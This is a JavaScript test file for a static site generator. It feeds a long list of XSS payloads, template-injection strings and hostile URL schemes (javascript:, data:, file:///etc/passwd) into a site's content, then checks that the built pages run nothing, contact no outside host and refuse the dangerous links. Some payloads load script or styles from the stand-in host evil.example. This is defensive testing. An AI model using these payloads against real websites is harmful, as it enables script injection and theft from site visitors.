// Content that attacks stays text: payloads of the classes of OWASP's XSS cheat sheet, in the
// fields of a collection with every kind of text, in the body, in labels and in site.yaml, run
// nothing, ask nobody and add no element; addresses that would run are refused with a message.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, test } from "node:test";
import { pathToFileURL } from "node:url";
import { KOPA, assertNone, build, copySite, listPages, startBrowser } from "./helper.js";

/** Text that would run, load, send or take over a page if it were taken for markup. */
const PAYLOADS = [
  `<script>alert(1)</script>`, `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`,
  `<img src="https://evil.example/x.png" onerror=alert(1)>`, `<img src=x:x onerror="alert(1)">`,
  `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg/onload=alert(1)//`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">x</math>`, `<details open ontoggle=alert(1)>x</details>`,
  `<body onload=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
  `<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
  `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,x"></object>`, `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<p style="background: url(https://evil.example/x.png)">x</p>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `</title><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
  `]]><script>alert(1)</script><![CDATA[`, `--><script>alert(1)</script><!--`,
  `\u2028alert(1)\u2029</script>`, `{{ get_env(name="HOME") }}{{ 7 * 191 }}`,
  `{% include "base.html" %}{% raw %}`, `{# x #}{{ __tera_context }}`,
];

/** Addresses that must not become links. */
const ADDRESSES = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:msgbox(1)",
  "jav&#x61;script:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "file:///etc/passwd",
];

const quoted = JSON.stringify;
const label = (text) => ({ lv: text, fr: text, hr: text, ro: text, en: text });

/** JSON is YAML, so that no payload needs a form of its own. */
function write(folder, file, value, body) {
  const where = path.join(folder, "content", file);
  fs.mkdirSync(path.dirname(where), { recursive: true });
  const text = quoted(value);
  fs.writeFileSync(where, body === undefined ? text : `---\n${text}\n---\n${body}`);
}

const field = (type, name, more) => ({ type, label: label(`${name}${PAYLOADS[2]}`), help: label(PAYLOADS[3]), ...more });

const SCHEMA = {
  title: label(`Hostile${PAYLOADS[0]}`), slug: label("hostile"), description: label(PAYLOADS[5]),
  cite: true, book: true,
  fields: {
    summary: field("text", "S", { translated: true, roles: ["summary"] }),
    line: field("text", "L", { roles: ["fact"] }),
    prose: field("markdown", "P", { translated: true, roles: ["fact"] }),
    kind: field("choice", "C", { roles: ["fact", "facet"], options: { a: label(PAYLOADS[7]), b: label(PAYLOADS[36]) } }),
    topics: field("terms", "T", { vocabulary: "hostile", roles: ["fact", "facet"] }),
    spot: field("place", "O", { roles: ["fact", "place"] }),
    picture: field("image", "I", { roles: ["image"] }),
    web: field("link", "W", { roles: ["fact"] }),
    mail: field("email", "M", { roles: ["fact"] }),
    people: field("list", "A", { roles: ["fact"], of: { type: "record", fields: { name: field("text", "N"), gloss: field("markdown", "G") } } }),
    sources: field("list", "Q", { roles: ["sources"], of: { type: "record", fields: {
      id: field("text", "K"), title: field("text", "H"), url: field("link", "U") } } }),
  },
};

const bodyOf = (payload) => `Text ${payload} text.

${payload}

## Heading ${payload}

![${payload.replaceAll(/[[\]]/g, "")}](pixel.png)

| a | ${payload.replaceAll("|", "")} |
|---|---|
| ${payload.replaceAll("|", "")} | \`${payload}\` |

\`\`\`html
${payload}
\`\`\`

\`\`\`quotation
${quoted({ text: payload, who: payload, source: "s" })}
\`\`\`
`;

function addHostile(folder) {
  write(folder, "_vocabularies/hostile.yaml", {
    title: label(`V${PAYLOADS[0]}`), slug: label("v"), description: label(PAYLOADS[5]),
    terms: Object.fromEntries(PAYLOADS.map((text, at) => [`t${at}`, { label: label(`T${at} ${text}`), description: label(text) }])),
  });
  write(folder, "hostile/_collection.yaml", SCHEMA);
  PAYLOADS.forEach((text, at) => {
    const front = {
      title: `Hostile${at} ${text}`, summary: text, line: text, prose: text, kind: at % 2 ? "a" : "b",
      topics: [`t${at}`], spot: { name: text, coordinates: [57, 25 + at / 100] },
      picture: { file: "pixel.png", alt: text, credit: text }, people: [{ name: text, gloss: text }],
      sources: [{ id: "s", title: text, url: "https://example.org/" }],
    };
    write(folder, `hostile/h${at}/en.md`, front, bodyOf(text));
    const png = path.join(import.meta.dirname, "../../benches/made/pixel.png");
    fs.copyFileSync(png, path.join(folder, `content/hostile/h${at}/pixel.png`));
  });
  ADDRESSES.forEach((url, at) => {
    write(folder, `hostile/u${at}/en.md`, { title: `Refused ${at}` }, `See [this](${url}).\n`);
    write(folder, `hostile/w${at}/en.md`, { title: `Field ${at}`, web: url }, "Text.\n");
  });
  const file = path.join(folder, "content/site.yaml");
  const site = fs.readFileSync(file, "utf8")
    .replace(/^title:\n(?: .*\n)+/m, () => `title: ${quoted(label(`Site ${PAYLOADS[2]}`))}\n`)
    .replace(/^menu: \[/m, "menu: [hostile, ");
  const publisher = { name: label(PAYLOADS[0]), address: [PAYLOADS[5]], phone: PAYLOADS[7], host: label(PAYLOADS[3]) };
  fs.writeFileSync(file, `${site}\npublisher: ${quoted(publisher)}\n`);
}

const temp = fs.mkdtempSync(path.join(os.tmpdir(), "kopa-hostile-"));
after(() => fs.rmSync(temp, { recursive: true, force: true }));
const [folder, out] = [path.join(temp, "site"), path.join(temp, "out")];
addHostile(copySite(folder));
// What is wrong is withheld, as on the main branch; all else is opened.
await build(folder, out, "--publish-sound", "--offline");
const pages = listPages(out).filter(({ path: where }) => /^en\/(hostile|v)\//.test(where) || /^(en|lv)\/$/.test(where));

/** What `check` says, as lines `path: code`. */
const said = await new Promise((resolve) => {
  const args = ["check", "--site", folder, "--lang", "en", "--format", "short"];
  execFile(KOPA, args, { maxBuffer: 1 << 28 }, (_error, stdout, stderr) => resolve(stdout + stderr));
});

test("addresses that would run are refused with a message, and are not published", () => {
  const problems = [];
  ADDRESSES.forEach((url, at) => {
    for (const id of [`u${at}`, `w${at}`]) {
      if (!new RegExp(`hostile/${id}/en\\.md.*error`).test(said)) problems.push(`nothing is said of ${id}: ${url}`);
    }
  });
  assertNone(problems);
});

test("what is not refused runs nothing, asks nobody and adds no element", async () => {
  const browser = await startBrowser();
  const page = await browser.newPage({ locale: "fi" });
  const problems = [];
  let where = "";
  const note = (text) => problems.push(`${where}: ${text}`);
  page.on("dialog", (dialog) => { note(`dialog ${dialog.message()}`); dialog.dismiss(); });
  const own = pathToFileURL(out).href;
  page.on("request", (request) => {
    if (!request.url().startsWith(own) && !request.url().startsWith("data:")) note(`asks ${request.url()}`);
  });
  page.on("pageerror", (error) => note(`script: ${error.message}`));
  // `<img src=x>` is left as a picture of the site's own, which is not there.
  page.on("console", (message) => {
    const missing = message.text().includes("ERR_FILE_NOT_FOUND") && message.location().url.startsWith(own);
    if (message.type() === "error" && !missing) note(message.text());
  });
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`));
  });
  assert.ok(pages.length > 80, `${pages.length} pages`);
  for (const { path: at } of pages) {
    where = at;
    await page.goto(pathToFileURL(path.join(out, at, "index.html")).href);
    for (const line of await page.evaluate(findForeign)) note(line);
  }
  await browser.close();
  assertNone(problems);
});

/** In the page: elements, attributes and addresses that kopa itself never writes. */
function findForeign() {
  const found = [];
  const kopas = "script[src^='../'], script[type='application/ld+json']";
  const foreign = "iframe, object, embed, style, base, form:not([role=search]):not(.search), math, template, marquee, video, audio, textarea, meta[http-equiv=refresh], [style], [formaction], [srcdoc]";
  for (const element of document.querySelectorAll(`script:not(${kopas}), ${foreign}`)) {
    found.push(`<${element.localName}> ${element.outerHTML.slice(0, 120)}`);
  }
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${name}="${value}" on <${element.localName}>`);
      const address = ["href", "src", "action", "xlink:href"].includes(name);
      const scheme = value.replace(/[\s\p{Cc}]/gu, "").toLowerCase();
      if (address && /^(javascript|vbscript|data:text|file):/.test(scheme)) found.push(`${name}="${value}"`);
    }
  }
  for (const data of document.querySelectorAll("script[type='application/ld+json']")) JSON.parse(data.textContent);
  // A template that had been run would have written the product.
  if (document.documentElement.innerHTML.includes("1337")) found.push("a template was run");
  return found;
}
